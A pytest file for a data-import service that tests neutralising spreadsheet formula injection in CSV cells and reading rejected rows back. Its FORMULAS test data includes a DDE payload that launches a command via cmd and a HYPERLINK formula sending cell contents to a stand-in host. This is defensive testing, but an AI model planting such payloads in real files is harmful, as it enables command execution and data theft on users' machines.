import csv
import io
from typing import Any

import pytest

from services.imports.operations import write_rejects
from services.imports.reading import formulas
from services.imports.reading.table import open_table

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://x.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-A1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n1",
    "  =1+1",
    "\u00a0=1",
    "\uff1d1+1",
    "\uff0b1+A1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\u22121+1",
    "-",
    "--",
    "+",
    "-1e5",
)
PLAIN = (
    "",
    "-12.50",
    "+1.5",
    "-1.234,56",
    "-1 234",
    "-.5",
    "+49 221 4710",
    "a=1",
    "17",
    "'",
    "'tis",
    "O'Neil",
    "Anna-Lena",
)
APOSTROPHES = ("'=1", "''-5", "'-5", "' +x", "'\tx")


class TestQuoted:
    @pytest.mark.parametrize("cell", FORMULAS)
    def test_makes_text_of_a_formula(self, cell: str) -> None:
        assert formulas.quoted([cell]) == [f"'{cell}"]

    @pytest.mark.parametrize("cell", PLAIN)
    def test_leaves_the_rest(self, cell: str) -> None:
        assert formulas.quoted([cell]) == [cell]

    @pytest.mark.parametrize("cell", [*FORMULAS, *PLAIN, *APOSTROPHES])
    def test_can_be_undone_to_the_character(self, cell: str) -> None:
        assert formulas.unquoted(formulas.quoted([cell])) == [cell]


class TestRejectsReadAgain:
    def test_are_the_rows_that_there_were(self, make_mapping: Any) -> None:
        header = ["No", "Qty", "Price", "Time", "=Note"]
        raw = [[*"123", "t", cell] for cell in (*FORMULAS, *PLAIN, *APOSTROPHES)]
        rows = [{"row": 1, "reason": "No.", "raw": cells} for cells in raw]
        text = "".join(write_rejects(rows, header))

        table = open_table(
            io.BytesIO(text.encode()), make_mapping({"sku": "=Note"}), max_bytes=10_000
        )

        assert [cells[2:] for _, cells in table] == raw
        assert next(csv.reader(io.StringIO(text)))[-1] == "'=Note"

    @pytest.mark.parametrize("delimiter", [",", ";", "\t"])
    @pytest.mark.parametrize(
        "format", [{"delimiter": ";"}, {"delimiter": "|", "quote": ""}], ids=["semicolons", "bars"]
    )
    def test_are_read_whatever_the_mapping_says_of_other_files(
        self, make_mapping: Any, format: dict[str, str], delimiter: str
    ) -> None:
        rows = [{"row": 1, "reason": 'It is "2";', "raw": ["1", "2", "3", "t"]}]
        written = csv.reader(
            io.StringIO("".join(write_rejects(rows, ["No", "Qty", "Price", "Time"])))
        )
        # As we wrote it, or as a spreadsheet of another country saved it.
        saved = io.StringIO()
        csv.writer(saved, delimiter=delimiter).writerows(written)

        table = open_table(
            io.BytesIO(saved.getvalue().encode()), make_mapping(format=format), max_bytes=10_000
        )

        assert [cells[2:] for _, cells in table] == [["1", "2", "3", "t"]]

    def test_another_file_is_read_as_it_is(self, make_mapping: Any) -> None:
        text = "No,Qty,Price,Time\n'=1,1,1,1\n"

        table = open_table(io.BytesIO(text.encode()), make_mapping(), max_bytes=1_000)

        assert [cells for _, cells in table] == [["'=1", "1", "1", "1"]]
